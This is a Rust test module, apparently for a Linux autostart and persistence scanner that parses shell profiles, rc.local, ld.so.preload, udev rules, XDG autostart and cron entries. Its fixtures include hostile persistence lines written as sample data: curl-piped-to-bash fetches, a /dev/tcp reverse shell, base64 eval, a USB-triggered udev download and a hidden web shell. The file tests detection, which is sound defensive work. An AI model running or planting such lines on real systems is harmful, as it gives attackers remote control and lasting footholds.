        assert_eq!(e[0].program.as_deref(), Some("/etc/bash.bashrc"));
        assert_eq!(e[0].detail, "source");

        let e = entries("/home/u/.bashrc", SKEL_BASHRC.as_bytes());
        assert_eq!(
            programs(&e),
            [
                Some("~/.bash_aliases"),
                Some("/usr/share/bash-completion/bash_completion"),
                Some("/etc/bash_completion"),
            ]
        );
        assert!(e.iter().all(|e| e.user.as_deref() == Some("u")));
    }

    #[test]
    fn malicious_profiles() {
        let bashrc = "export PATH=$HOME/bin:$PATH\n\
                      alias ll='ls -l'\n\
                      nohup /tmp/.x/kworker >/dev/null 2>&1 &\n\
                      curl -fsSL http://x/y | bash\n\
                      (~/.cache/.u/agent &)\n\
                      python3 -c 'import socket,os,pty;s=socket.socket()'\n\
                      eval \"$(echo Y3VybAo= | base64 -d)\"\n\
                      bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n\
                      ls --color\n";
        let e = entries("/root/.bashrc", bashrc.as_bytes());
        let lines: Vec<u32> = e.iter().map(|e| e.line).collect();
        assert_eq!(lines, [3, 4, 5, 6, 7, 8]);
        assert_eq!(
            programs(&e),
            [
                Some("/tmp/.x/kworker"),
                None,
                Some("~/.cache/.u/agent"),
                Some("python3"),
                None,
                Some("bash"),
            ]
        );
        assert_eq!(e[1].detail, "run-time code");
        assert!(e.iter().all(|e| e.user.as_deref() == Some("root")));

        let rc_local = "#!/bin/sh -e\n#\n# rc.local\n\
                        cat > /etc/motd <<'EOF'\n/usr/bin/not-a-command\nEOF\n\
                        [ -x /usr/local/sbin/fw ] && /usr/local/sbin/fw start\n\
                        /usr/bin/sudo -u www-data /var/www/.h/shell.php\n\
                        exit 0\n";
        let e = entries("/etc/rc.local", rc_local.as_bytes());
        assert_eq!(
            programs(&e),
            [Some("/usr/local/sbin/fw"), Some("/var/www/.h/shell.php")]
        );
        assert_eq!(e[0].kind, Kind::RcLocal);
        assert_eq!(e[0].line, 7);
        assert_eq!(e[0].user, None);
    }

    #[test]
    fn ld_preload() {
        let data = "/dev/shm/libx.so\n# comment\n/lib/a.so:/lib/b.so  libc.so.6\n";
        let e = entries("/etc/ld.so.preload", data.as_bytes());
        let got: Vec<(u32, &str)> = e.iter().map(|e| (e.line, e.command.as_str())).collect();
        assert_eq!(
            got,
            [
                (1, "/dev/shm/libx.so"),
                (2, "comment"),
                (3, "/lib/a.so"),
                (3, "/lib/b.so"),
                (3, "libc.so.6"),
            ]
        );
        assert_eq!(e[0].program.as_deref(), Some("/dev/shm/libx.so"));
        assert!(e.iter().all(|e| e.kind == Kind::LdPreload));
    }

    #[test]
    fn udev_rules() {
        let hwclock = "# Set the System Time from the Hardware Clock and set the kernel's timezone\n\
                       # value to the local timezone when the kernel clock module is loaded.\n\n\
                       KERNEL==\"rtc0\", RUN+=\"/usr/lib/udev/hwclock-set $root/$name\"\n";
        let e = entries("/lib/udev/rules.d/85-hwclock.rules", hwclock.as_bytes());
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 4);
        assert_eq!(e[0].command, "/usr/lib/udev/hwclock-set $root/$name");
        assert_eq!(e[0].program.as_deref(), Some("/usr/lib/udev/hwclock-set"));
        assert_eq!(e[0].detail, "RUN+= when KERNEL==\"rtc0\"");

        let dm = "ENV{DM_COOKIE}==\"?*\", IMPORT{program}=\"/sbin/dmsetup udevflags $env{DM_COOKIE}\"\n\
                  TAG==\"uaccess\", ENV{MAJOR}!=\"\", RUN{builtin}+=\"uaccess\"\n\
                  ACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"net.agent\"\n\
                  PROGRAM==\"/bin/check %k\", RESULT==\"ok\", RUN+=\"socket:@/org/freedesktop/hal/udev_event\"\n";
        let e = entries("/etc/udev/rules.d/50-x.rules", dm.as_bytes());
        assert_eq!(
            programs(&e),
            [
                Some("/sbin/dmsetup"),
                Some("net.agent"),
                Some("/bin/check"),
                None
            ]
        );
        assert_eq!(e[0].detail, "IMPORT{program}= when ENV{DM_COOKIE}==\"?*\"");
        assert_eq!(e[1].line, 3);

        let evil = "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/sh -c 'curl -s http://x/p | sh'\"\n\
                    ACTION==\"add\", RUN+=\"/bin/sh -c '/usr/lib/.u/dropper --bg'\"\n";
        let e = entries("/etc/udev/rules.d/99-usb.rules", evil.as_bytes());
        assert_eq!(programs(&e), [None, Some("/usr/lib/.u/dropper")]);
    }

    #[test]
    fn udev_values_without_a_closing_quote_end_the_line() {
        // Found by the linux_autostart fuzz target: the parser stepped past the end of the line.
        assert!(entries("/etc/udev/rules.d/99-x.rules", b"A=\"").is_empty());
        let cut = b"ACTION==\"add\", RUN+=\"/usr/bin/x";
        assert!(entries("/etc/udev/rules.d/99-x.rules", cut).is_empty());
    }

    #[test]
    fn xdg_autostart() {
        let at_spi = "[Desktop Entry]\nType=Application\nName=AT-SPI D-Bus Bus\n\
                      Exec=/usr/libexec/at-spi-bus-launcher --launch-immediately\nNoDisplay=true\n\
                      X-GNOME-AutoRestart=true\nX-GNOME-Autostart-Phase=Initialization\n";
        let e = entries(
            "/etc/xdg/autostart/at-spi-dbus-bus.desktop",
            at_spi.as_bytes(),
        );
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 4);
        assert_eq!(e[0].detail, "Exec");
        assert_eq!(
            e[0].program.as_deref(),
            Some("/usr/libexec/at-spi-bus-launcher")
        );
        assert_eq!(e[0].user, None);

        let evil = "[Desktop Entry]\nType=Application\nName=Updater\n\
                    Exec=sh -c \"sleep 20 && $HOME/.local/share/.u/upd %U\" %f\nHidden=true\n\
                    [Desktop Action x]\nExec=/usr/bin/other\n";
        let e = entries("/home/eve/.config/autostart/upd.desktop", evil.as_bytes());
        assert_eq!(e.len(), 1);
        assert_eq!(
            e[0].command,
            "sh -c \"sleep 20 && $HOME/.local/share/.u/upd\""
        );
        assert_eq!(e[0].program.as_deref(), Some("$HOME/.local/share/.u/upd"));
        assert_eq!(e[0].detail, "hidden");
        assert_eq!(e[0].user.as_deref(), Some("eve"));
        assert_eq!(strip_field_codes("a 100%% %i b"), "a 100% b");
    }

    #[test]
    fn program_of_commands() {
        let cases: &[(&str, Option<&str>)] = &[
            ("/usr/bin/foo --bar", Some("/usr/bin/foo")),
            ("foo", Some("foo")),
            ("", None),
            ("   ", None),
            ("# just a comment", None),
            ("FOO=1 BAR='a b' /opt/x/run", Some("/opt/x/run")),
            ("env -i PATH=/bin /usr/bin/x", Some("/usr/bin/x")),
            (
                "/usr/bin/env python3 /opt/app/main.py",
                Some("/opt/app/main.py"),
            ),
            ("exec -a kworker /tmp/.x", Some("/tmp/.x")),
            (
                "nice -n 19 ionice -c3 /usr/bin/backup",
                Some("/usr/bin/backup"),
            ),
            ("nice -10 /usr/bin/y", Some("/usr/bin/y")),
            (
                "nohup /tmp/.x/kworker > /dev/null 2>&1 &",
                Some("/tmp/.x/kworker"),
            ),
            ("sudo -u www-data -E HOME=/x /srv/app", Some("/srv/app")),
            ("timeout -s KILL 30m /usr/bin/job", Some("/usr/bin/job")),
            ("setsid -f /usr/bin/daemon", Some("/usr/bin/daemon")),
            ("flock -n /run/x.lock /usr/bin/x", Some("/usr/bin/x")),
            (
                "flock -w 5 /run/x.lock -c '/usr/bin/y --z'",
                Some("/usr/bin/y"),
            ),
            (
                "/usr/bin/test -x /usr/bin/z && /usr/bin/z",
                Some("/usr/bin/z"),
            ),
            ("[ -x /usr/bin/z ] && /usr/bin/z", Some("/usr/bin/z")),
            ("cd /srv && ./run.sh", Some("./run.sh")),
            ("cd /srv; exec bin/start", Some("bin/start")),
            ("test -x /x", Some("test")),
            ("sh -c '/tmp/a -b'", Some("/tmp/a")),
            ("bash -c \"exec /tmp/b\"", Some("/tmp/b")),
            ("/bin/bash -lc 'cd /x && nohup ./y &'", Some("./y")),
            ("sh -c \"sh -c '/tmp/deep'\"", Some("/tmp/deep")),
            ("sh /etc/init.d/foo start", Some("/etc/init.d/foo")),
            ("/bin/bash -x -o pipefail /opt/s.sh", Some("/opt/s.sh")),
            ("python3 -u /opt/bot.py", Some("/opt/bot.py")),
            ("python3.11 -W ignore /opt/bot.py", Some("/opt/bot.py")),
            ("python -c 'print(1)'", Some("python")),
            ("python3 -m http.server", Some("python3")),
            ("perl -MIO::Socket /tmp/p.pl", Some("/tmp/p.pl")),
            ("perl -e 'exec \"/bin/sh\"'", Some("perl")),
            ("php -f /var/www/x.php", Some("/var/www/x.php")),
            ("php /var/www/y.php", Some("/var/www/y.php")),
            ("ruby -rsocket /tmp/r.rb", Some("/tmp/r.rb")),
            ("node /opt/app/index.js", Some("/opt/app/index.js")),
            ("curl -s http://x/y | sh", None),
            ("wget -qO- http://x/y | bash -s -- arg", None),
            ("echo aGk= | base64 -d | /bin/sh", None),
            ("sh < /tmp/script", Some("/tmp/script")),
            ("bash <(curl -s http://x)", None),
            ("bash -c \"$(curl -fsSL http://x)\"", None),
            ("bash <<< '/tmp/hs'", Some("/tmp/hs")),
            ("$(echo /tmp/x)", None),
            ("`echo /tmp/x`", None),
            ("eval /tmp/ev", Some("/tmp/ev")),
            (". /etc/profile; /usr/bin/job", Some("/usr/bin/job")),
            (". /tmp/.env", Some("/tmp/.env")),
            ("/usr/bin/foo 2>&1 | logger -t foo", Some("/usr/bin/foo")),
            ("echo hi | /tmp/evil", Some("/tmp/evil")),
            ("su - app -c '/srv/app/start'", Some("/srv/app/start")),
            ("runuser -u app -- /srv/app/run", Some("/srv/app/run")),
            ("command -v x >/dev/null && x --go", Some("x")),
            ("'/opt/my app/run' --x", Some("/opt/my app/run")),
            ("\"$HOME\"/bin/x", Some("$HOME/bin/x")),
            ("~/bin/x", Some("~/bin/x")),
            ("/tmp/.x/sh /tmp/arg", Some("/tmp/.x/sh")),
            ("/tmp/.x/sleep 1; /usr/bin/y", Some("/tmp/.x/sleep")),
            (
                "{ cd / && run-parts --report /etc/cron.daily; }",
                Some("run-parts"),
            ),
            ("if [ -d /x ]; then /x/run; fi", Some("/x/run")),
            ("busybox sh -c /tmp/bb", Some("/tmp/bb")),
            ("time -p /usr/bin/slow", Some("/usr/bin/slow")),
            ("/bin/bash", Some("/bin/bash")),
            ("sh -c ''", None),
            ("FOO=bar", None),
            ("sh -c 'unterminated", Some("unterminated")),
        ];
        for (command, want) in cases {
            assert_eq!(prog(command), *want, "{command}");
        }
    }

    /// Deterministic pseudo-random bytes (xorshift), biased toward shell/INI syntax.
    fn noise(seed: u64, len: usize) -> Vec<u8> {
        const ALPHABET: &[u8] =
            b" \t\n\r\\'\"$()`|&;<>#=%@-+!:[]{},*/0123456789abcSRUNEXeccsh\0\xff\xc3";
        let mut state = seed | 1;
        (0..len)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                if state.is_multiple_of(4) {
                    (state >> 8) as u8
                } else {
                    ALPHABET[(state >> 16) as usize % ALPHABET.len()]
                }
            })
            .collect()
    }

    const EVERY_KIND: &[&str] = &[
        "/etc/crontab",
        "/var/spool/cron/crontabs/root",
        "/etc/cron.daily/x",
        "/etc/systemd/system/x.service",
        "/etc/rc.local",
        "/etc/ld.so.preload",
        "/home/u/.bashrc",
        "/etc/udev/rules.d/x.rules",
        "/etc/xdg/autostart/x.desktop",
        "/etc/init.d/x",
    ];

    #[test]
    fn hostile_random_bytes() {
        let start = Instant::now();
        for seed in 1..300u64 {
            let data = noise(seed, 4096);
            for path in EVERY_KIND {
                let _ = entries(path, &data);
            }
            let _ = program_of(&String::from_utf8_lossy(&data));
        }
        let mut section = b"[Service]\nExecStart=".to_vec();
        section.extend(noise(7, 100_000));
        let _ = entries("/etc/systemd/system/x.service", &section);
        assert!(start.elapsed() < Duration::from_secs(20));
    }

    #[test]
    fn hostile_huge_and_nested() {
        let start = Instant::now();
        let mut huge = Vec::new();
        for piece in [
            "a ".repeat(2_000_000),
            "$(".repeat(500_000),
            "\"".repeat(1_000_000),
            "(".repeat(1_000_000),
            "\\".repeat(1_000_001),
            "'".repeat(1_000_001),
            "%".repeat(1_000_000),
            "<<".repeat(500_000),
        ] {
            huge.clear();
            huge.extend_from_slice(b"* * * * * root ");
            huge.extend_from_slice(piece.as_bytes());
            huge.push(b'\n');
            for path in EVERY_KIND {
                let _ = entries(path, &huge);
            }
            let _ = program_of(&piece);
        }
        // A file of many continuation lines.
        let continued = "ExecStart=/bin/x \\\n".repeat(200_000);
        let _ = entries(
            "/etc/systemd/system/x.service",
            format!("[Service]\n{continued}").as_bytes(),
        );

        // Re-parsing stops at MAX_DEPTH: the command is still analysed, to no program.
        let deep_eval = format!("{}/tmp/x", "eval ".repeat(200_000));
        assert_eq!(program_of(&deep_eval), None);
        let shallow = format!("{}/tmp/x", "eval ".repeat(3));
        assert_eq!(program_of(&shallow), Some("/tmp/x".to_string()));
        let mut nested = "/tmp/inner".to_string();
        for _ in 0..30 {
            nested = format!("sh -c \"$({nested})\"");
        }
        let _ = program_of(&nested);
        let mut quoted = "/tmp/q".to_string();
        for _ in 0..5 {
            quoted = format!("sh -c '{}'", quoted.replace('\'', r"'\''"));
        }
        assert_eq!(program_of(&quoted), Some("/tmp/q".to_string()));

        // NUL bytes and invalid UTF-8 are read lossily.
        let nul = b"*/5 * * * * root /tmp/\0x\xff\n@reboot\0 /bin/y\n";
        let e = entries("/etc/cron.d/nul", nul);
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].program.as_deref(), Some("/tmp/\0x\u{fffd}"));
        let _ = entries("/etc/ld.so.preload", b"\0\0/x\0:\xfe");
        assert!(start.elapsed() < Duration::from_secs(60));
    }

    /// Parses this machine's own autostart files, when present.
    #[test]
    fn real_host_files() {
        let dirs = [
            "/etc/cron.d",
            "/etc/cron.daily",
            "/etc/init.d",
            "/etc/profile.d",
            "/etc/xdg/autostart",
            "/etc/udev/rules.d",
            "/lib/udev/rules.d",
            "/etc/systemd/system",
            "/lib/systemd/system",
            "/usr/lib/systemd/system",
        ];
        let mut paths: Vec<String> = [
            "/etc/crontab",
            "/etc/profile",
            "/etc/bash.bashrc",
            "/etc/rc.local",
            "/etc/ld.so.preload",
        ]
        .iter()
        .map(|p| p.to_string())
        .collect();
        for dir in dirs {
            if let Ok(list) = std::fs::read_dir(dir) {
                paths.extend(
                    list.flatten()
                        .map(|e| format!("{dir}/{}", e.file_name().to_string_lossy())),
                );
            }
        }
        let mut programs_seen = 0;
        for path in &paths {
            let Ok(data) = std::fs::read(path) else {
                continue;
            };
            for entry in entries(path, &data) {
                assert!(entry.line >= 1, "{path}: {entry:?}");
                assert!(!entry.command.is_empty(), "{path}: {entry:?}");
                if entry.program.is_some() {
                    programs_seen += 1;
                }
            }
        }
        let check = |path: &str, want: &str| {
            if let Ok(data) = std::fs::read(path) {
                let e = entries(path, &data);
                assert!(
                    e.iter()
                        .any(|e| e.program.as_deref().is_some_and(|p| p.ends_with(want))),
                    "{path}: {e:?}"
                );
            }
        };
        check("/etc/cron.d/e2scrub_all", "/e2scrub_all_cron");
        check(
            "/lib/systemd/system/systemd-timesyncd.service",
            "/lib/systemd/systemd-timesyncd",
        );
        check("/lib/systemd/system/dbus.service", "/usr/bin/dbus-daemon");
        check(
            "/lib/systemd/system/apt-daily.service",
            "/usr/lib/apt/apt.systemd.daily",
        );
        check("/lib/udev/rules.d/85-hwclock.rules", "/hwclock-set");
        check("/etc/profile", "/etc/bash.bashrc");
        if std::path::Path::new("/lib/systemd/system").is_dir() {
            assert!(programs_seen > 10);
        }
    }
}
